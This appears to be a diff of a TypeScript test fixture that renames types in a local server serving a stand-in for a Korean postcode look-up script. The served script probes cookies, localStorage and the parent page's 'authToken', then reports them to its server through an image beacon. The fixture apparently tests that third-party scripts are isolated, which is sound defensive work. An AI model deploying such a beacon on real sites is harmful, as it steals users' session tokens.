@@ -2,7 +2,7 @@ import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 
 /** What the script saw of the world around it. */
-export interface Sight {
+export interface Observation {
   origin: string
   ownStorage: string
   ownCookies: string
@@ -13,7 +13,7 @@ export interface Sight {
 export interface PostcodeScript {
   readonly url: string
   /** One for each time the script was run. */
-  readonly sights: readonly Sight[]
+  readonly observations: readonly Observation[]
   close(): Promise<void>
 }
 
@@ -21,19 +21,19 @@ export const FOUND = { zonecode: '06236', roadAddress: '서울 강남구 테헤�
 
 /**
  * Speaks like the look-up service's own script, and tells its own server what a script in its place could get hold of.
- * A picture carries the news, since the page lets it connect to nothing.
+ * A picture carries the answer, since the page lets it connect to nothing.
  */
 const SCRIPT = `(() => {
   const home = new URL(document.currentScript.src).origin
   const look = (get) => { try { return 'got ' + String(get()) } catch (error) { return error.name } }
-  const sight = {
+  const observed = {
     origin: self.origin,
     ownStorage: look(() => localStorage.length),
     ownCookies: look(() => document.cookie),
     siteStorage: look(() => parent.localStorage.getItem('authToken')),
     siteDocument: look(() => parent.document.title),
   }
-  new Image().src = home + '/sight?' + new URLSearchParams(sight)
+  new Image().src = home + '/observed?' + new URLSearchParams(observed)
   window.kakao = {
     Postcode: class {
       constructor(options) { this.options = options }
@@ -50,20 +50,20 @@ const SCRIPT = `(() => {
 })()`
 
 export async function startPostcodeScript(): Promise<PostcodeScript> {
-  const sights: Sight[] = []
+  const observations: Observation[] = []
   const server = createServer((request, response) => {
     const { pathname, searchParams } = new URL(request.url ?? '/', 'http://localhost')
     if (pathname === '/postcode.js') {
       response.writeHead(200, { 'content-type': 'text/javascript; charset=utf-8' }).end(SCRIPT)
       return
     }
-    if (pathname === '/sight') sights.push(Object.fromEntries(searchParams) as unknown as Sight)
+    if (pathname === '/observed') observations.push(Object.fromEntries(searchParams) as unknown as Observation)
     response.writeHead(204).end()
   })
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
   return {
     url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/postcode.js`,
-    sights,
+    observations,
     close: () =>
       new Promise((resolve) => {
         server.close(() => resolve())
